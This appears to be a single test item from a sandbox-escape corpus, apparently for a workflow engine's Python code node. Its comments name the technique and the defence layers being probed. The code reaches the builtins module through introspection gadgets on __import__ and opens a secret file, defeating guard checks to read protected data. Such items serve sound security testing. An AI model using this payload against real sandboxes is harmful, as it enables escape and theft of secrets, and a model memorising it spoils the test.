# class: guards as gadgets
# technique: the type of a guard, its slots and what they hold
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
holder = kind(__import__).__dict__["__self__"].__get__(__import__)
return [{"json": {"reached": holder.open(host["secret"]).read()}}]
